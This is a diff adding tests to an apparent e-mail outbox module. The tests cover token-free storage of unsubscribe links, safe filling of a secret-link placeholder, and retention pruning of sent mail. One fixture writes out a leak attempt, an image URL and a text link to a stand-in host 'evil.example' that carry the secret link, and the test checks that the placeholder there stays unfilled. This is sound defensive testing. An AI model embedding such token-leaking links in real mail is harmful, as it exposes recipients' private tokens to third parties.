@@ -180,6 +180,53 @@ describeEachDb("e-mail outbox", () => {
     expect(un.status).toBe(200);
     const [row] = await getDb().select().from(schema.newsletterSubscribers).where(eq(schema.newsletterSubscribers.email, "kasia@example.com"));
     expect(row!.isActive).toBe(false);
+    // Finding 1 (2026-11 review, second round): the link was minted for the send; the stored
+    // row (queued, then sent) holds only a reference to it.
+    const token = new URL(link).searchParams.get("token")!;
+    const [stored] = await getDb().select().from(schema.emailOutbox).where(eq(schema.emailOutbox.toAddress, "kasia@example.com"));
+    expect(stored!.status).toBe("sent");
+    expect(stored!.secretRef).toBe(`unsubscribe:${row!.id}`);
+    expect(JSON.stringify(stored)).not.toContain(token);
+    expect(JSON.stringify(stored)).not.toContain("token=");
+  });
+
+  it("a secret link goes only where its placeholder is a whole link target", async () => {
+    const { fillSecretLink, SECRET_LINK } = await import("./outbox.server");
+    const filled = fillSecretLink(
+      {
+        html: `<img src="https://evil.example/p.gif?u=${SECRET_LINK}"><a href="${SECRET_LINK}">x</a><a href="${SECRET_LINK}x">y</a>`,
+        text: `Link: ${SECRET_LINK}\nhttps://evil.example/?${SECRET_LINK}`,
+        headers: { "List-Unsubscribe": `<${SECRET_LINK}>, <mailto:a@b.example>` },
+      },
+      "https://rib.example/u?token=1.2.abc&x=1",
+    );
+    expect(filled.html).toBe(`<img src="https://evil.example/p.gif?u=${SECRET_LINK}"><a href="https://rib.example/u?token=1.2.abc&amp;x=1">x</a><a href="${SECRET_LINK}x">y</a>`);
+    expect(filled.text).toBe(`Link: https://rib.example/u?token=1.2.abc&x=1\nhttps://evil.example/?${SECRET_LINK}`);
+    expect(filled.headers!["List-Unsubscribe"]).toBe("<https://rib.example/u?token=1.2.abc&x=1>, <mailto:a@b.example>");
+  });
+
+  it("prunes sent mail after the retention: deleted, or emptied while a campaign or an enquiry counts it", async () => {
+    const { pruneSentMail } = await import("./outbox.server");
+    await stopOutboxWorker();
+    const long = sql`now() - interval '40 days'`;
+    const base = { subject: "S", html: "<p>body</p>", textBody: "body", status: "sent" as const, sentAt: long, createdAt: long };
+    await getDb()
+      .insert(schema.emailOutbox)
+      .values([
+        { ...base, dedupeKey: "welcome:1:1", kind: "welcome", toAddress: "old@example.com" },
+        { ...base, dedupeKey: "campaign:1:1", kind: "campaign", toAddress: "old@example.com", jobId: 1 },
+        { ...base, dedupeKey: "booking:1:operator", kind: "booking-operator", toAddress: "op@example.com" },
+        { ...base, dedupeKey: "welcome:2:2", kind: "welcome", toAddress: "new@example.com", sentAt: sql`now() - interval '2 days'` },
+        { ...base, dedupeKey: "pending:1", kind: "test", toAddress: "p@example.com", status: "pending" },
+      ]);
+    expect(await pruneSentMail(30)).toEqual({ deleted: 1, emptied: 2 });
+    const left = await getDb().select().from(schema.emailOutbox).orderBy(schema.emailOutbox.dedupeKey);
+    expect(left.map((r) => [r.dedupeKey, r.status, r.html])).toEqual([
+      ["booking:1:operator", "sent", ""],
+      ["campaign:1:1", "sent", ""],
+      ["pending:1", "pending", "<p>body</p>"],
+      ["welcome:2:2", "sent", "<p>body</p>"],
+    ]);
   });
 
   it("sends a burst of 1,000 queued e-mails quickly", async () => {
